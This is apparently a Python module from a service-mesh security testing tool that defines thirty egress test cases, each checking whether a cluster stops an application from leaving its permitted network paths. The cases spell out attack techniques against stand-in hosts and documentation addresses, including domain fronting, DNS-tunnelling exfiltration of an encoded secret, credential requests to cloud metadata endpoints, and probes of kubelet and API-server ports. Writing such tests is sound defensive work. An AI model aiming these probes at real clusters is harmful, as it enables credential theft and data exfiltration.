"""MA7xx: out of the cluster, and to what an application was never given."""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

from configuration.leaving.egress import Egress
from manifests.mesh_graph import Member
from meshops.attack import http, judging
from meshops.attack.entry import attempt
from meshops.attack.ground import Ground, standing_in
from meshops.attack.model import Answer, Attempt, Outcome, Shot, Step, Wall
from meshops.attack.place import Place
from meshops.attack.shots import get, raw
from meshops.verify.calling.plan import undeclared_host

# Documentation's own addresses and names (RFC 5737, 3849, 2606): nobody's.
_ADDRESS = "198.51.100.10"
_RESOLVER = "198.51.100.53"
_ADDRESS_6 = "2001:db8::10"
_EVIL = "meshops-attack.example.org"


def sender(ground: Ground) -> Member | None:
    """An application that may reach some host by HTTPS; any that is in the mesh if none may."""
    members = ground.stack.members
    return next((member for member in members if declared_host(member)), next(iter(members), None))


def declared_host(member: Member) -> Egress | None:
    return next((item for item in member.application.egress if item.protocol not in ("TCP", "HTTP")), None)


def place_of(member: Member) -> Place:
    return standing_in(member, member.application.identity)


def _escaped(ground: Ground, step: Step, answer: Answer) -> Outcome:
    """Somebody outside answered, or the connection was refused by somebody who is not the own sidecar.

    A sidecar takes every connection that it captures, and closes the ones it may not make. So a refusal by TCP itself,
    or ICMP's after a datagram, comes from beyond it.
    """
    if "ConnectionRefused" in answer.error:
        return Outcome(result="succeeded", why=f"it left: the other side's {answer.error}")
    found = http.responses(answer.received)
    if answer.received and answer.received[:1] != b"\x15" and not (found and all(item.status >= 400 for item in found)):
        return judging.succeeded(answer)
    return judging.refused(answer)


def _sent(port: int, text: str = "", *, to: str = _ADDRESS, **more: Any) -> Callable[[Ground], list[Shot]]:
    """To an address outside, by an application in its own place."""

    def steps(ground: Ground) -> list[Shot]:
        member = sender(ground)
        return [raw(place_of(member), to, port, text, **more)] if member else []

    return steps


def _named(host: str = "") -> Callable[[Ground], list[Shot]]:
    """HTTPS and HTTP for a name that nobody declared."""

    def steps(ground: Ground) -> list[Shot]:
        member = sender(ground)
        if member is None:
            return []
        name = host or undeclared_host(ground.stack)
        text = http.request(name)
        return [
            raw(place_of(member), name, 443, text, tls={"sni": name}),
            raw(place_of(member), name, 80, text),
            raw(place_of(member), _ADDRESS, 443, text, tls={"sni": name}),
            raw(place_of(member), _ADDRESS, 80, text),
        ]

    return steps


def _fronted(*, to: str = "", sni: str = "", host: str = _EVIL, path: str = "/") -> Callable[[Ground], list[Shot]]:
    """Behind the name of a declared host. to, sni, host: the declared one's if empty."""

    def steps(ground: Ground) -> list[Shot]:
        member = sender(ground)
        declared = declared_host(member) if member else None
        if member is None or declared is None:
            return []
        name = declared.destination.replace("*", "meshops-attack")
        text = http.request(host or name, path)
        return [raw(place_of(member), to or name, declared.port, text, tls={"sni": sni or name},
                    said=f"SNI {sni or name}, Host {host or name}")]  # fmt: skip

    return steps


def _behind_originated(ground: Ground) -> list[Shot]:
    """Behind a host to which the sidecar begins TLS itself, and so reads what is asked for."""
    for member in ground.stack.members:
        for declared in member.application.egress:
            if declared.originate and member.application.workload == "managed":
                place, name = place_of(member), declared.destination.replace("*", "meshops-attack")
                texts = (
                    http.request(_EVIL),
                    http.request(name, f"http://{_EVIL}/"),
                    http.request(_EVIL, f"http://{_EVIL}/"),
                    http.request(f"{_EVIL}:443", f"{_EVIL}:443", method="CONNECT"),
                )
                own = raw(
                    place, name, declared.port, http.request(_EVIL), tls={"sni": name}, said=f"own TLS, Host {_EVIL}"
                )
                return [*(raw(place, name, declared.called_port, text) for text in texts), own]
    return []


def _others_host(ground: Ground) -> list[Shot]:
    """Another application's declared host."""
    owner = sender(ground)
    declared = declared_host(owner) if owner else None
    if owner is None or declared is None:
        return []
    name = declared.destination.replace("*", "meshops-attack")
    others = [
        member
        for member in ground.stack.members
        if member.name != owner.name and name not in {item.host for item in member.application.egress}
    ]
    return [raw(place_of(member), name, declared.port, http.request(name), tls={"sni": name}) for member in others[:2]]


def query(name: str, kind: int = 1) -> str:
    """A DNS question. kind: 1 A, 16 TXT, 28 AAAA."""
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return (b"\x4d\x41\x01\x00\x00\x01\0\0\0\0\0\0" + labels + b"\0" + bytes((0, kind, 0, 1))).decode("latin-1")


def _over_tcp(message: str) -> str:
    return f"{chr(len(message) >> 8)}{chr(len(message) & 255)}{message}"


_SECRET = base64.b32encode(b"INV-2041 1250.00 EUR").decode().lower().rstrip("=")


def _asked(ground: Ground, member: Member, name: str, kind: int, *, tcp: bool) -> Shot:
    """A question to the cluster's own DNS."""
    message = query(name, kind)
    text = _over_tcp(message) if tcp else message
    return raw(place_of(member), ground.dns_service, 53, text, said=f"DNS: {name}", udp=not tcp)


def _below_declared(ground: Ground) -> list[Shot]:
    """What is to leave, as a name below a host that is declared."""
    member = sender(ground)
    declared = declared_host(member) if member else None
    if member is None or declared is None or not ground.dns_service:
        return []
    return [_asked(ground, member, f"{_SECRET}.{declared.destination}", kind, tcp=False) for kind in (1, 16)]


def _tunnel(kind: int, *, tcp: bool = False) -> Callable[[Ground], list[Shot]]:
    """What is to leave, as a name below somebody's domain, asked of the cluster's own DNS."""

    def steps(ground: Ground) -> list[Shot]:
        member = sender(ground)
        if member is None or not ground.dns_service:
            return []
        # Beside it a name that exists: whether the other was passed on, only the one who answers for it knows.
        names = (f"{_SECRET}.{_EVIL}", undeclared_host(ground.stack))
        return [_asked(ground, member, name, kind, tcp=tcp) for name in names]

    return steps


def _resolver(*, tcp: bool) -> Callable[[Ground], list[Shot]]:
    """A resolver of one's own choice."""
    message = query(_EVIL)
    return _sent(53, _over_tcp(message) if tcp else message, to=_RESOLVER, udp=not tcp, said=f"DNS: {_EVIL}")


def _metadata(address: str, path: str) -> Callable[[Ground], list[Shot]]:
    return _sent(80, http.request(address, path), to=address)


def _inside(ground: Ground) -> list[Shot]:
    """Services of the mesh that the application may not call, by name and by address."""
    graph = ground.stack.graph
    shots = []
    for member in ground.stack.members:
        callees = {(item.namespace.name, item.name) for item in graph.callees(member.namespace.name, member.name)}
        for other in ground.stack.listeners:
            key = (other.namespace.name, other.name)
            if key in callees or key == (member.namespace.name, member.name):
                continue
            path = other.application.readiness_path
            port = other.application.port or 0
            shots.append(get(place_of(member), other.host, port, path))
            shots += [get(place_of(member), pod.ip, port, path, host=other.host) for pod in ground.pods(*key)[:1]]
    return shots


def _platform(ground: Ground) -> list[Shot]:
    member = sender(ground)
    if member is None:
        return []
    place = place_of(member)
    shots = [get(place, "kubernetes.default.svc.cluster.local", 443, "/version", tls={"sni": None})]
    shots += [get(place, node, 10250, "/pods", tls={"sni": None}) for node in ground.nodes[:1]]
    shots += [get(place, node, 10249, "/metrics") for node in ground.nodes[:1]]
    shots += [get(place, ground.istiod, port, "/debug/syncz") for port in (8080, 15014) if ground.istiod]
    shots += [get(place, ground.collector, 8888, "/metrics")] if ground.collector else []
    return shots


def _gateway(ground: Ground) -> list[Shot]:
    """By the gateway's pod to what is public, and back in."""
    member = sender(ground)
    return [
        raw(place_of(member), pod.ip, 443, http.request(ground.public_host), tls={"sni": None})
        for pod in ground.gateways[:1]
        if member and ground.public_host
    ]


def _tunnelled(ground: Ground) -> list[Shot]:
    member = sender(ground)
    if member is None:
        return []
    text = f"CONNECT {_EVIL}:443 HTTP/1.1\r\nHost: {_EVIL}:443\r\n\r\n{http.request(_EVIL)}"
    callee = next(iter(ground.stack.graph.callees(member.namespace.name, member.name)), None)
    if callee is None:
        return []
    return [raw(place_of(member), callee.host, callee.application.port or 0, text)]


def _row(
    number: int, name: str, tries: str, must: str, wall: Wall, steps: Callable[[Ground], list[Shot]],
    judge: judging.Judge = _escaped, *, medium: bool = False,
) -> Attempt:  # fmt: skip
    return attempt(
        f"MA{number}", position="neighbour", name=name, tries=tries, must=must, wall=wall, steps=steps, judge=judge,
        severity="medium" if medium else "high",
    )  # fmt: skip


_OUT = "Nobody outside answers."
_H2 = http.request_h2(_EVIL)
ATTEMPTS: tuple[Attempt, ...] = (
    _row(701, "A host that nobody declared", "HTTPS and HTTP, by name and to an address.", _OUT, "sidecar", _named()),
    _row(702, "An address and no name", "TLS without a name to an address outside.", _OUT, "sidecar",
         _sent(443, http.request(_ADDRESS), tls={"sni": None})),
    _row(703, "Another application's host", "A host that somebody else of the stack has declared.", _OUT, "sidecar",
         _others_host),
    _row(704, "A declared name at another address", "The declared host's name in TLS and in the request, to an "
                                                    "address of "
         "one's own.", _OUT, "security group", _fronted(to=_ADDRESS, host=""), medium=True),
    _row(705, "Behind a declared name", "The declared host's name in TLS, another one in the request (domain "
                                        "fronting).",
         "Nobody answers to the other name.", "sidecar", _fronted(), medium=True),
    _row(706, "A declared host, another name in TLS", "To the declared host's address with another name in TLS.", _OUT,
         "sidecar", _fronted(sni=_EVIL)),
    _row(707, "SSH, SMTP and others", "Connects to an address outside on 22.", _OUT, "sidecar", _sent(22,
         "SSH-2.0-x\r\n")),
    _row(708, "SMTP", "Connects to an address outside on 25.", _OUT, "sidecar", _sent(25, "EHLO x\r\n")),
    _row(709, "A database", "Connects to an address outside on 5432.", _OUT, "sidecar", _sent(5432, "\0\0\0\x08")),
    _row(710, "Port 15020, outside", "Connects to an address outside on a port that capture leaves out.", _OUT,
         "sidecar",
         _sent(15020, http.request(_EVIL))),
    _row(711, "Port 15090, outside", "The same on 15090.", _OUT, "sidecar", _sent(15090, http.request(_EVIL))),
    _row(712, "UDP", "Sends a datagram to an address outside on 443, as QUIC does.", _OUT, "NetworkPolicy",
         _sent(443, "\xc0meshops", udp=True), medium=True),
    _row(713, "UDP, another port", "Sends a datagram to an address outside on 4500.", _OUT, "NetworkPolicy",
         _sent(4500, "meshops", udp=True), medium=True),
    _row(714, "A resolver of one's own", "Asks a resolver outside by UDP.", _OUT, "NetworkPolicy", _resolver(tcp=False),
         medium=True),
    _row(715, "A resolver of one's own, TCP", "Asks a resolver outside by TCP.", _OUT, "sidecar", _resolver(tcp=True)),
    _row(716, "DNS as a way out", "Asks the cluster's DNS for a name that carries what is to leave (A).",
         "The name is not looked up.", "DNS firewall", _tunnel(1), judging.no_lookup),
    _row(717, "DNS as a way out and back", "The same with TXT.", "The name is not looked up.", "DNS firewall",
         _tunnel(16),
         judging.no_lookup),
    _row(718, "DNS as a way out, TCP", "The same by TCP.", "The name is not looked up.", "DNS firewall",
         _tunnel(1, tcp=True), judging.no_lookup),
    _row(719, "IPv6", "HTTPS to an address of IPv6.", _OUT, "sidecar", _sent(443, http.request(_EVIL), to=_ADDRESS_6)),
    _row(720, "Instance metadata", "Asks 169.254.169.254 for the node's credentials, as version 1 and "
                                   "2.", _OUT, "sidecar",
         lambda ground: [
             *_metadata("169.254.169.254", "/latest/meta-data/iam/security-credentials/")(ground),
             *_sent(80, http.request("169.254.169.254", "/latest/api/token", method="PUT",
                                     headers=(("X-aws-ec2-metadata-token-ttl-seconds", "60"),)),
                    to="169.254.169.254")(ground),
         ]),
    _row(721, "Pod Identity's agent", "Asks 169.254.170.23 for credentials.", _OUT, "sidecar",
         _metadata("169.254.170.23", "/v1/credentials")),
    _row(722, "Task metadata", "Asks 169.254.170.2 for credentials.", _OUT, "sidecar",
         _metadata("169.254.170.2", "/v2/credentials")),
    _row(723, "Instance metadata, IPv6", "Asks fd00:ec2::254.", _OUT, "sidecar",
         _metadata("fd00:ec2::254", "/latest/meta-data/")),
    _row(724, "Applications that it may not call", "Every application asks every other one that did not name it, "
                                                   "by name "
         "and by address.", "403, or no answer.", "policy", _inside, judging.no_protected_answer),
    _row(725, "The platform", "Asks the API server, the kubelet, kube-proxy, istiod and the collector.",
         "No answer below 400.", "sidecar", _platform, judging.no_success),
    _row(726, "Out by the gateway", "Asks a gateway's pod for the public host.", "No answer below 400.", "sidecar",
         _gateway,
         judging.no_success),
    _row(727, "A tunnel by the own sidecar", "Asks the sidecar for a tunnel to a host outside, on a connection that it "
         "may have.", _OUT, "sidecar", _tunnelled),
    _row(728, "HTTP/2 to an address", "A request over HTTP/2 in plaintext to an address outside.", _OUT, "sidecar",
         _sent(80, _H2, said="HTTP/2 with prior knowledge")),
    _row(729, "DNS as a way out, below a declared host", "Asks the cluster's DNS for names below a declared host that "
         "carry what is to leave (A, TXT).", "The name is not looked up.", "DNS firewall", _below_declared,
         judging.no_lookup),
    _row(730, "Behind a host to which the sidecar begins TLS", "Another Host, an absolute URI, CONNECT, and TLS of "
         "its own, to a host with `originate`.", "Nobody answers to the other name.", "sidecar", _behind_originated),
)  # fmt: skip
